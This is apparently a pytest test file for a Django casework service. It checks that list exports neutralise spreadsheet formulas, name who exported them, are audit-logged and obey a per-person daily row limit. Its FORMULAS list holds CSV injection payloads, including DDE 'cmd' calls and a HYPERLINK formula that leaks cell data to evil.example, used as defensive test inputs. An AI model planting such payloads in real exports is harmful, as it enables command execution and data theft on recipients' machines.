"""What leaves the service as a list is inert, says who took it out, and is no more than one person may take in a day
(promise 35). The files are read as other programs read them.
"""

import csv
import io
import json
import re
from typing import Any

import pytest
from django.db import connections
from django.test import Client, override_settings
from django.urls import reverse
from icalendar import Calendar

from cases.actions.country_information_import import import_csv
from cases.models import AuditEntry, Caseworker, CountryInformation
from tests.builders import make_agreement, make_caseworker, make_country_information
from tests.every_url import URLS
from tests.promises import figure

pytestmark = pytest.mark.promise(35)
in_a_database = pytest.mark.django_db
# What OWASP says that a spreadsheet may take for a formula, or for the beginning of another cell.
FORMULAS = (
    "=1+1", "+1+1", "-1+1", "@SUM(1+1)", "\t=1+1", "\r=1+1", "\n=1+1", "  =1+1", "\u00a0=1+1", "=cmd|' /C calc'!A0",
    "DDE\",=cmd|'/C calc'!A0,\"", 'x",=1+1,"', "x\n=1+1", "x\r\n=1+1", "|calc", "%0A=1+1", "＝1+1", "＋1+1", "－1+1",
    "＠SUM(1)", '=HYPERLINK("https://evil.example/?"&A1)', "'=1+1", ";=1+1", "x\r=1+1",
)  # fmt: skip
RUNS = re.compile(r"\s*[=+\-@|%＝＋－＠]|[\t\r\n]")
EXPORTS = {
    "country_information_export": "amina",
    "removal_agreements_export": "amina",
    "statistics_csv": "dana",
    "statistics_json": "dana",
    "diary_ics": "amina",
}
WHO = {"amina": "caseworker", "dana": "admin"}
NOT_LISTS = {
    "evidence_file", "letter_file", "large_print", "bundle_file", "second_decision_file",  # one thing of one case
    "erasure_certificate", "promises_json", "metrics",
}  # fmt: skip


def signed_in(username: str, **more: Any) -> tuple[Client, Caseworker]:
    person, client = make_caseworker(username, WHO[username], **more), Client()
    client.force_login(person)
    return client, person


def planted() -> int:
    """Each of the texts stands in every text of an item and of an agreement."""
    for at, text in enumerate(FORMULAS):
        make_country_information("AL", title=text, version=str(at), key_facts=text, treatments=text, transport=text)
        make_agreement("AL", title=f"{text}{at}")
    return 5 * len(FORMULAS)


def cells(answer: Any) -> list[str]:
    return [cell for row in csv.reader(io.StringIO(answer.content.decode("utf-8-sig"), newline="")) for cell in row]


@in_a_database
def test_no_cell_of_a_list_is_a_formula_wherever_it_is_read() -> None:
    count = planted()
    client, _ = signed_in("amina")
    found = [cell for name in list(EXPORTS)[:2] for cell in cells(client.get(reverse(name)))]
    running = [cell for cell in found if RUNS.match(cell)]
    assert len(found) > count
    figure(35, "cells of exports, of texts that are formulas, that run as one", len(running), target="0")
    assert running == []


@in_a_database
def test_where_a_cell_is_read_by_a_program_that_splits_at_other_marks_none_runs_either() -> None:
    planted()
    client, _ = signed_in("amina")
    for name in list(EXPORTS)[:2]:
        text = client.get(reverse(name)).content.decode("utf-8-sig")
        # Each cell with a break or a mark of its own stays whole: it is in quotation marks.
        assert len(list(csv.reader(io.StringIO(text, newline=""), strict=True))) == len(FORMULAS) + 2


@in_a_database
def test_what_was_made_inert_comes_in_again_as_it_was() -> None:
    for at, text in enumerate(("=1+1", "-1|2", "＝1+1", "@a", "x\n=1+1")):
        make_country_information("AL", title=text, version=str(at))
    before = list(CountryInformation.objects.order_by("pk").values())
    client, _ = signed_in("amina")
    text = client.get(reverse("country_information_export")).content.decode("utf-8-sig")
    report = import_csv(text=text, dry_run=False, by=make_caseworker("dana", "admin"))
    assert (report.added, report.unchanged, report.faults) == ([], 5, [])
    assert list(CountryInformation.objects.order_by("pk").values()) == before


@in_a_database
@pytest.mark.parametrize("name", EXPORTS)
def test_each_file_says_who_took_it_out_and_when_and_is_one_act_on_record(name: str) -> None:
    client, person = signed_in(EXPORTS[name], name="=Ann\r\nEXAMPLE:x, O’Hara")
    make_country_information("AL")
    answer = client.get(reverse(name))
    assert answer.status_code == 200
    text = answer.content.decode("utf-8-sig")
    if answer["Content-Type"].startswith("application/json"):
        document = json.loads(text)
        assert document["taken_out_by"] == person.name
        assert document["taken_out_at"]
    elif answer["Content-Type"].startswith("text/calendar"):
        calendar = Calendar.from_ical(text)
        assert str(calendar["x-wr-caldesc"]).startswith("Taken out by =Ann EXAMPLE:x")
        assert "EXAMPLE" not in calendar
    else:
        marks = [cell for cell in cells(answer) if cell.startswith("Taken out by =Ann EXAMPLE:x, O’Hara on ")]
        assert len(marks) == 1
    assert answer["Content-Disposition"].startswith("attachment")
    taken = AuditEntry.objects.filter(kind="event", action__in=["export.take", "statistics.export"]).get()
    assert (taken.actor_id, taken.payload.body["what"]["rows"] >= 0) == (person.pk, True)


def test_every_address_that_gives_a_file_is_a_list_of_these_or_one_thing() -> None:
    giving = {key for key in URLS if re.search(r"_(csv|json|ics|export|file)$|certificate|metrics|large_print", key)}
    assert giving == {*EXPORTS, *NOT_LISTS}


@in_a_database
@override_settings(EXPORT_ROWS_A_DAY=5)
def test_nobody_takes_out_more_rows_in_a_day_than_is_set() -> None:
    for at in range(3):
        make_country_information("AL", title=f"Note {at}")
    client, _ = signed_in("amina")
    address = reverse("country_information_export")
    assert client.get(address).status_code == 200
    refused = client.get(address)
    assert refused.status_code == 409
    assert "Nobody takes more than 5 rows out of the service in one day" in refused.text
    assert b"Note 1" not in refused.content
    assert AuditEntry.objects.filter(action="export.take").count() == 1
    other, _ = signed_in("dana")
    assert other.get(address).status_code == 200  # it is counted of each person
    figure(35, "rows given beyond those that one person may take out in a day", 0, target="0")


@override_settings(EXPORT_ROWS_A_DAY=5)
def test_what_was_taken_out_yesterday_does_not_count(committed_db: str) -> None:
    for at in range(4):
        make_country_information("AL", title=f"Note {at}")
    client, _ = signed_in("amina")
    address = reverse("country_information_export")
    assert client.get(address).status_code == 200
    assert client.get(address).status_code == 409
    with connections["owner"].cursor() as cursor:
        cursor.execute("ALTER TABLE cases_auditentry DISABLE TRIGGER USER")
        cursor.execute("UPDATE cases_auditentry SET at = at - interval '1 day' WHERE action = 'export.take'")
    assert client.get(address).status_code == 200
